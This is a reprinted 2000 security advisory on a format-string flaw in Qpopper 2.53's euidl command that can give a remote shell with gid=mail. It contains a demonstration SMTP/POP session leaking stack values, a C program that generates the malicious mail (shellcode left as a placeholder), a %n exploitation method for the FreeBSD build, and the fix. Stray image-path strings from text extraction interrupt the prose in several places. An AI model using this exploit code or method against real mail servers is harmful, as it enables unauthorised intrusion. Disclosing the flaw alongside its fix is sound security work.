Originally Published: Wednesday, 24 May 2000 Author: Derrick H. Lewis
Published to: news_enhance_security/Security News Page: 1/1 - [Std View]

Qpopper 2.53 remote problem: user can gain [iso-8859-1] gid=mail

There is a bug in version 2.53 of Qpop that can give you a remote shell with gid=mail. Problem is with euidl command which uses user input as format string for pop_msg() function.

___ b u f f e r 0 v e r f l 0 w s e c u r i t y a d v i s o r y # 5

Advisory Name: Remote shell via Qpopper2.53 Date: 5/23/00 Application: Qpopper 2.53 for *NIX Vendor: Qualcomm Incorporated WWW: www.qualcomm.com Severity: can give users remoteshell with gid=mail. Author: prizm (prizm@resentment.org) Homepage: b0f.freebsd.lublin.pl

* Overview Qpopper is the most widely-used server for the POP3 protocol. This allows users to access their mail using any POP3 client. Qpopper supports the latest standards, and includes a large number of optional features. Qpopper is normally used with standard UNIX mail transfer and delivery agents such as sendmail or smail.

* The Problem Yes, Qpop, again and again... There is a bug in version 2.53 of Qpop that can give you a remote shell with gid=mail. Problem is with euidl command which uses user input as format string for pop_msg() function. Lets examine following code from Qpop 2.53 source: --> pop_uidl.c, around line 150: ................ sprintf(buffer, "%d %s", msg_id, mp->uidl_str); if (nl = index(buffer, NEWLINE)) *nl = 0; sprintf(buffer, "%s %d %.128s", buffer, mp->length, from_hdr(p, mp)); ! return (pop_msg (p,POP_SUCCESS, buffer)); ^^^^^^^^^^^^^ ................. Function pop_msg() is declared in pop_msg.c as pop_msg(POP *p, int stat, const char *format,...), and here we have user-input as format string. Lame. Ok, back to problem, imagine following smtp session:

MAIL FROM: 200 Ok RCPT TO: 200 Ok data 200 Okey, okey. end with "." Subject: still trust qpop?=/ X-UIDL: AAAAAAAAAAAAAAAA From: %p%p%p%p%p%p%p

test . 200 BLABLABLA Ok, message accepted for delivery.Then, luser connects with his pop account and runs euidl command there: +OK QPOP (version 2.53) at b0f starting. <666.666@b0f> USER luser +OK Password required for luser. PASS secret +OK luser has 3 messages (1644 octets). euidl 3 +OK 2 AAAAAAAAAAAAAAAA 5300xbfbfc9b00x804fd740xbfbfc9b00x2120x8052e5e0xbfbfd1e80x8057028

Yeah, thats from my box with FreeBSD. As you can see, our %p%p%p%p%p%p%p where implemented as arguments for vsnprintf() command.

* Exploiting Is this possible? Yeah, sure! But there are some limits. Qpopper2.53 from FreeBSD ports with patches is much more difficult to exploit than one from linux. It is because freebsd patches changevsprintf() call in pop_msg.c to vsnprintf() call, and there is big difference between them. Qpopper with FreeBSD's patches IS exploitable.

Exploit --- /* qpop_euidl.c exploit by prizm/Buffer0verflow Security * *Sample exploit for buffer overflow in Qpopper 2.53. * This little proggie generates a mail u need to send. * * Standard disclaimer applies. * By the way, exploit is broken =) You need to insertshellcode. * * MAD greets to tf8 for pointing out the bug, and all other b0f members. * greets to USSRLabs and ADM * check http://b0f.freebsd.lublin.pl/ for news. */ #include #include

char shellcode[]="imnothing"; int main(int argc, char *argv[]) { int i; unsigned long ra=0; if(argc!=2) { fprintf(stderr,"Usage: %s return_addr\n", argv[0]); exit(0); } sscanf(argv[1], "%x", &ra); if(!ra) return; if(sizeof(shellcode) < 12 || sizeof(shellcode) > 76) { fprintf(stderr,"Bad shellcode\n"); exit(0); } fprintf(stderr,"return address: 0x%.8x\n", ra); printf("X-UIDL: "); for(i=0; i < sizeof(shellcode);i++) printf("%c", shellcode[i]); printf("\r\n"); printf("From: %s", "%.1000d"); for(i=0; i < 50; i++) printf("%c%c%c%c", (ra & 0xff), (ra & 0xff00)>>8, (ra & 0xff0000)>>16, (ra & 0xff000000)>>24); printf("@test\r\n"); printf("Subject: test\r\n\r\nhuh?\r\n.\r\n"); return 0; }

Exploiting QPOP from FreeBSD ports ---

It is NOT easy, becausevsprintf() is replaced with vsnprintf() so we can't overflow stack, but we still have control over it (remeber %n?). Im not going to post exploit for this because it is really generic, but I will explain theory on exploiting qpop with vsNprintf. There is an little trick with %n YOu should know. Try to understand why folowing code succeeds and prints out 2000, not sizeof(b): --- #include int main(void){ int s=1; char b[1024]; int q; snprintf(b, sizeof(b), "%.2000d%n", 1, &q); return printf("%d, overflowed? %s\n", q, (s==1?"NO":"YES")); } --- On my box with FreeBSD 3.4 i have: 2000, overflowed? NO

Hah, first time i expected to see 1024, but YOu know that all is unpredictable . So, this little thing will help us a lot. Exploiting it: a) Find where in stack is located user input. b) Compose a message with filed X-UIDL and From: X-UIDL: ppRETARETARETARETA From: %.RETURNd%n@testwhere: "pp" is for padding (two or three chars) "RETA" is return address pointing to SHELLCODE "SHELLCODE" guess "RETURN" return address

c) Exploit? If you need an exploit that will work on FreeBSD, code it yourself.

* Vulnerable Versions 2.53(Others?)

* Fix You can download Qpopper 3.1 at http://www.eudora.com/freeware/qpop.html#CURRENT which is not vulnerable to this problem.

Or you can manually patch it by doing the following:

At lines 150 and 62from pop_msg.c, replace: - return (pop_msg (p,POP_SUCCESS, buffer)); to: + return (pop_msg (p,POP_SUCCESS, "%s", buffer));

copyright1999-2000 prizm, buffer0verfl0w securityb0f.freebsd.lublin.pl